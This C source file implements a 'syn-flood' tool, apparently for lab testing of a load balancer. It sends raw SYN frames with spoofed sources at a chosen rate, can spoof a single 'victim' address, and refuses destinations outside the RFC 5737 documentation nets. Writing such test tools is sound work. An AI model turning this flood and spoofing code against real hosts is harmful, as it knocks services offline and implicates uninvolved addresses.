// SPDX-License-Identifier: Apache-2.0
/*
 * syn-flood INTERFACE GATEWAY-MAC SOURCE-MAC VIP:PORT FIRST COUNT RATE [VICTIM]: sends the SYNs number FIRST
 * to FIRST + COUNT - 1 of a sequence of distinct spoofed flows, RATE a second, and prints how many the
 * interface took.
 *
 * The flow n has source 198.18.0.0 + n % 131072 (RFC 2544's benchmarking net) and source port 1024 + n /
 * 131072, so that no two of the first eight thousand million are equal; or, with a VICTIM, that address and
 * the port 1024 + n. For the namespaces of the lab alone: it refuses a destination outside the documentation
 * nets (RFC 5737).
 */
#include "endpoint.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum {
	BATCH = 32, /* a veth's queue holds 256 frames */
	FIRST_PORT = 1024,
};

static const uint32_t SEQUENCE_STEP = 0x9e3779b1;
/* Source addresses, host order. */
static uint32_t first_source = 0xc6120000, sources = 1 << 17;

struct frame {
	struct ethhdr ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

/* Host order, of 24 bits each. */
static const uint32_t documentation[] = {0xc0000200, 0xc6336400, 0xcb007100};

static uint64_t sum_words(const void *data, size_t length, uint64_t sum)
{
	for (size_t i = 0; i < length; i += 2) {
		uint16_t word;

		memcpy(&word, (const char *)data + i, sizeof(word));
		sum += word;
	}
	return sum;
}

static uint16_t fold(uint64_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static int frame_init(struct frame *frame, char **argv)
{
	struct ether_addr gateway, own;
	struct endpoint vip;
	const struct sockaddr_in *to = (const void *)&vip.address;
	bool allowed = false;

	if (!ether_aton_r(argv[2], &gateway) || !ether_aton_r(argv[3], &own) ||
	    endpoint_read(argv[4], true, &vip) || to->sin_family != AF_INET)
		return -EINVAL;
	for (size_t i = 0; i < sizeof(documentation) / sizeof(*documentation); i++)
		allowed |= (ntohl(to->sin_addr.s_addr) & 0xffffff00) == documentation[i];
	if (!allowed)
		return -EPERM;
	memset(frame, 0, sizeof(*frame));
	memcpy(frame->ethernet.h_dest, &gateway, ETH_ALEN);
	memcpy(frame->ethernet.h_source, &own, ETH_ALEN);
	frame->ethernet.h_proto = htons(ETH_P_IP);
	frame->ip = (struct iphdr){.version = 4,
				   .ihl = 5,
				   .ttl = 64,
				   .protocol = IPPROTO_TCP,
				   .tot_len = htons(sizeof(frame->ip) + sizeof(frame->tcp)),
				   .daddr = to->sin_addr.s_addr};
	frame->tcp.dest = to->sin_port;
	frame->tcp.doff = 5;
	frame->tcp.syn = 1;
	frame->tcp.window = htons(64240);
	return 0;
}

static void frame_number(struct frame *frame, uint64_t number)
{
	uint64_t sum;

	frame->ip.saddr = htonl(first_source + number % sources);
	frame->ip.check = 0;
	frame->ip.check = fold(sum_words(&frame->ip, sizeof(frame->ip), 0));
	frame->tcp.source = htons(FIRST_PORT + number / sources);
	frame->tcp.seq = htonl((uint32_t)number * SEQUENCE_STEP);
	frame->tcp.check = 0;
	sum = htons(IPPROTO_TCP) + htons(sizeof(frame->tcp));
	sum = sum_words(&frame->ip.saddr, 8, sum);
	frame->tcp.check = fold(sum_words(&frame->tcp, sizeof(frame->tcp), sum));
}

/* Sends a batch. Returns how many the interface took: a full queue drops, and the rest is not sent again. */
static unsigned int batch_send(int fd, const struct frame *model, uint64_t first, unsigned int count)
{
	static struct frame frames[BATCH];
	struct iovec parts[BATCH];
	struct mmsghdr messages[BATCH];
	int sent;

	memset(messages, 0, sizeof(messages));
	for (unsigned int i = 0; i < count; i++) {
		frames[i] = *model;
		frame_number(&frames[i], first + i);
		parts[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
	}
	sent = sendmmsg(fd, messages, count, 0);
	return sent > 0 ? sent : 0;
}

static int interface_open(const char *name)
{
	const int on = 1;
	struct sockaddr_ll own = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(name)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0 || !own.sll_ifindex || bind(fd, (struct sockaddr *)&own, sizeof(own)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)))
		return -errno;
	return fd;
}

static uint64_t flood(int fd, const struct frame *model, uint64_t first, uint64_t count, uint64_t rate)
{
	const uint64_t began = monotonic_ms();
	uint64_t taken = 0;

	for (uint64_t done = 0; done < count;) {
		unsigned int size = count - done < BATCH ? count - done : BATCH;

		taken += batch_send(fd, model, first + done, size);
		done += size;
		while (done * 1000 > (monotonic_ms() - began + 1) * rate)
			usleep(500);
	}
	return taken;
}

static int victim_read(const char *text)
{
	struct in_addr victim;

	if (inet_pton(AF_INET, text, &victim) != 1)
		return -EINVAL;
	first_source = ntohl(victim.s_addr);
	sources = 1;
	return 0;
}

int main(int argc, char **argv)
{
	struct frame model;
	int fd, err;

	if (argc < 8 || argc > 9) {
		fprintf(stderr, "usage: syn-flood INTERFACE GATEWAY-MAC SOURCE-MAC VIP:PORT FIRST COUNT RATE "
				"[VICTIM]\n");
		return 2;
	}
	err = frame_init(&model, argv);
	if (!err && argc == 9)
		err = victim_read(argv[8]);
	fd = err ? err : interface_open(argv[1]);
	if (fd < 0) {
		fprintf(stderr, "syn-flood: %s %s: %s\n", argv[1], argv[4], strerror(-fd));
		return 1;
	}
	printf("{\"taken\": %lu}\n", flood(fd, &model, strtoull(argv[5], NULL, 10),
					   strtoull(argv[6], NULL, 10), strtoull(argv[7], NULL, 10) + 1));
	close(fd);
	return 0;
}
